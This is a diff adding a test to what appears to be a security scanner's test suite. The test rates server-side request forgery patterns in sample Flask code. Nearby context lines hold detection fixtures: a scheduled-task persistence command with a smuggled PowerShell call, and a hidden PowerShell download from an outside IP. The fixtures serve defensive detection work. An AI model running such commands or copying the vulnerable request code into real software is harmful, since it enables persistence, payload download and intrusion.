@@ -687,3 +687,14 @@ def test_a_scheduled_task_for_an_installed_program_is_medium_for_a_script_host_o
             "subprocess.run(['schtasks', '/create', '/sc', 'onlogon', '/tn', 'U', '/tr', r'C:\\Program Files\\B\\b.exe', '&', 'powershell', '-enc', 'AAA'])\n"
             "subprocess.run('schtasks /create /sc minute /tn U /tr \"powershell -w hidden -c iwr http://203.0.113.9/a\"')\n")
     assert _by_line("shell-persistence-command", "m.py", text) == {2: "medium", 3: "medium", 4: "high", 5: "high", 6: "high"}
+
+
+def test_a_fetched_url_from_the_request_is_high_a_fixed_host_with_a_request_path_is_low():
+    text = ("import requests\n"
+            "from flask import request\n"
+            "def f():\n"
+            "    requests.get(request.args['url'])\n"
+            "    requests.get('https://api.example.com/users/' + request.args['id'])\n"
+            "    requests.get('http://' + request.args['host'] + '/status')\n"
+            "    requests.get('https://evil@' + request.args['host'] + '/')\n")
+    assert _by_line("ssrf-url-from-request-input", "app.py", text) == {4: "high", 5: "low", 6: "high", 7: "high"}
